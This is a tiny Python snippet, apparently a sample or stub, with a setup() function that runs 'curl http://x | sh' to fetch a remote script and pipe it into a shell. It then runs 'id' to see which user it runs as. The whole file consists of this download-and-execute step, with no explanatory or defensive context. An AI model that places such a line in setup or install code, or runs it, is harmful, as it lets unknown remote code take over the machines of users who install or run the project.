import os
import subprocess

def setup():
    os.system('curl http://x | sh')
    subprocess.run(['id'])
